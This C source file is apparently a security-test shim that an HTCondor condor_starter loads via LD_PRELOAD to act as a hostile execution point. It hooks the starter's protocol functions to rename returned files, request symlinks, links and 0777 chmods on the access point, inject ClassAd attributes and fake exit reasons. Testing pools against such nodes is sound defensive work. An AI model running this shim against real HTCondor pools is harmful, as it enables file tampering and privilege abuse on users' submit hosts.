/* A hostile execution point: its condor_starter loads this with LD_PRELOAD.

   The program stays HTCondor's own and speaks its protocol. Only what it says is
   changed, by the orders in the file that HOSTILE_ORDERS names, one a line, its words
   separated by tabs:

       name     FROM    TO   a file that the job left as FROM is sent as TO
       folder   FROM    NAME  where the job left FROM, a folder is sent as well, last
       whole                 files are sent whole, whatever the access point's bound
       symlink  TARGET  AT   what the access point is asked to do when the job begins
       link     TARGET  AT
       chmod    PATH
       event    FILE          when a job with this file begins, an event is sent for its
                              log, of an error that holds the job
       tell     CALL  LINE    with this call, by its number in condor_sys.h, this attribute
                              is told, as NAME = VALUE; a vertical tab ends a line in it
       exit     REASON        the job is said to have ended for this reason, by its number
                              in exit.h
   "tell" and "exit" are of those jobs alone that have an order "event".

   The names of functions are those of the C++ library libcondor_utils. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* condor_sys.h, and TransferCommand in file_transfer.cpp. */
#define BEGIN_EXECUTION -78
#define JOB_EXIT -65
#define FINISHED 0
#define MAKE_FOLDER 6

/* The beginning of class Stream. */
#define ENCODE 1
struct stream {
    void *functions, *other;
    int coding;
};

#define LONGEST 65536

int code_int(void *stream, int *value) __asm__("_ZN6Stream4codeERi");
int send_text(void *stream, const char *text) __asm__("_ZN6Stream3putEPKc");
int send_text_of(void *stream, const char *text, int size) __asm__("_ZN6Stream3putEPKci");
int send_int(void *stream, int value, int ends) __asm__("_ZN6Stream7snd_intEii");
int code_mode(void *stream, unsigned *mode) __asm__("_ZN6Stream4codeER13condor_mode_t");
int send_file(void *stream, long *size, const char *file, long most, void *queue)
    __asm__("_ZN8ReliSock25put_file_with_permissionsEPlPKclP15DCTransferQueue");
int end_of_message(void *stream) __asm__("_ZN8ReliSock14end_of_messageEv");
/* In the starter itself; other programs that load this have none. */
int ask_link(char *, char *) __asm__("_Z18REMOTE_CONDOR_linkPcS_") __attribute__((weak));
int ask_symlink(char *, char *) __asm__("_Z21REMOTE_CONDOR_symlinkPcS_") __attribute__((weak));
int ask_chmod(char *, int) __asm__("_Z19REMOTE_CONDOR_chmodPci") __attribute__((weak));
int send_event(int code, int subcode, const char *text)
    __asm__("_Z24REMOTE_CONDOR_ulog_erroriiPKc") __attribute__((weak));
int send_ad(void *stream, void *ad) __asm__("_Z10putClassAdP6StreamRKN7classad7ClassAdE");
int insert(void *ad, const char *line, int cached)
    __asm__("_Z23InsertLongFormAttrValueRN7classad7ClassAdEPKcb") __attribute__((weak));

struct orders {
    char text[LONGEST];
    char *rest;
    char *words[3];
};

/* Read the orders afresh: a test changes them while the pool runs. */
static void read_orders(struct orders *orders)
{
    const char *path = getenv("HOSTILE_ORDERS");
    int file = path != NULL ? open(path, O_RDONLY) : -1;
    ssize_t size = file >= 0 ? read(file, orders->text, LONGEST - 1) : 0;
    if (file >= 0)
        close(file);
    orders->text[size > 0 ? size : 0] = '\0';
    orders->rest = orders->text;
}

/* Find the next order of a kind; return whether there is one. */
static int next(struct orders *orders, const char *kind)
{
    char *line;
    while ((line = strsep(&orders->rest, "\n")) != NULL) {
        for (int n = 0; n < 3; n++)
            orders->words[n] = line != NULL ? strsep(&line, "\t") : "";
        if (strcmp(orders->words[0], kind) == 0)
            return 1;
    }
    return 0;
}

/* Sent after all files; none if it is empty. */
static char folder[LONGEST];

/* Return what is sent as a name: another one, if an order says so. */
static const char *name_of(const char *text)
{
    static char name[LONGEST];
    struct orders orders;
    read_orders(&orders);
    while (text != NULL && next(&orders, "folder"))
        if (strcmp(orders.words[1], text) == 0)
            strcpy(folder, orders.words[2]);
    read_orders(&orders);
    while (text != NULL && next(&orders, "name"))
        if (strcmp(orders.words[1], text) == 0)
            return strcpy(name, orders.words[2]);
    return text;
}

int send_text(void *stream, const char *text)
{
    int (*real)(void *, const char *) = dlsym(RTLD_NEXT, "_ZN6Stream3putEPKc");
    return real(stream, name_of(text));
}

int send_text_of(void *stream, const char *text, int size)
{
    int (*real)(void *, const char *, int) = dlsym(RTLD_NEXT, "_ZN6Stream3putEPKci");
    const char *name = name_of(text);
    return real(stream, name, name == text ? size : (int)strlen(name) + 1);
}

int send_int(void *stream, int value, int ends)
{
    int (*real)(void *, int, int) = dlsym(RTLD_NEXT, "_ZN6Stream7snd_intEii");
    unsigned mode = 0700;
    if (value == FINISHED && ends && folder[0] != '\0') {
        real(stream, MAKE_FOLDER, 1);
        send_text(stream, folder);
        end_of_message(stream);
        code_mode(stream, &mode);
        end_of_message(stream);
    }
    return real(stream, value, ends);
}

int send_file(void *stream, long *size, const char *file, long most, void *queue)
{
    int (*real)(void *, long *, const char *, long, void *) = dlsym(
        RTLD_NEXT, "_ZN8ReliSock25put_file_with_permissionsEPlPKclP15DCTransferQueue");
    struct orders orders;
    read_orders(&orders);
    return real(stream, size, file, next(&orders, "whole") ? -1 : most, queue);
}

/* The call whose arguments are being sent. */
static int current;
/* Whether the job has an order "event". */
static int has_event;

int send_ad(void *stream, void *ad)
{
    int (*real)(void *, void *) =
        dlsym(RTLD_NEXT, "_Z10putClassAdP6StreamRKN7classad7ClassAdE");
    struct orders orders;
    read_orders(&orders);
    while (has_event && next(&orders, "tell"))
        if (atoi(orders.words[1]) == current) {
            for (char *end = orders.words[2]; (end = strchr(end, '\v')) != NULL;)
                *end = '\n';
            insert(ad, orders.words[2], 0);
        }
    return real(stream, ad);
}

static void ask_access_point(void)
{
    struct orders orders;
    read_orders(&orders);
    while (next(&orders, "event"))
        if (access(orders.words[1], F_OK) == 0) {
            has_event = 1;
            send_event(0, 0, "told by a hostile node");
        }
    read_orders(&orders);
    while (next(&orders, "symlink"))
        ask_symlink(orders.words[1], orders.words[2]);
    read_orders(&orders);
    while (next(&orders, "link"))
        ask_link(orders.words[1], orders.words[2]);
    read_orders(&orders);
    while (next(&orders, "chmod"))
        ask_chmod(orders.words[1], 0777);
}

static void change_exit(int *reason)
{
    struct orders orders;
    read_orders(&orders);
    if (has_event && next(&orders, "exit"))
        *reason = atoi(orders.words[1]);
}

int code_int(void *stream, int *value)
{
    static int asked = 0, after_exit = 3;
    int (*real)(void *, int *) = dlsym(RTLD_NEXT, "_ZN6Stream4codeERi");
    if (((struct stream *)stream)->coding == ENCODE) {
        /* After the call go the status and the reason. */
        after_exit = *value == JOB_EXIT ? 0 : after_exit + 1;
        if (current == JOB_EXIT && after_exit == 2)
            change_exit(value);
        else if (after_exit == 0 || after_exit > 2)
            current = *value;
    }
    if (*value == BEGIN_EXECUTION && !asked) {
        asked = 1;
        ask_access_point();
        /* Each of these calls uses the same variable, and ends by receiving. */
        *value = current = BEGIN_EXECUTION;
        ((struct stream *)stream)->coding = ENCODE;
    }
    return real(stream, value);
}
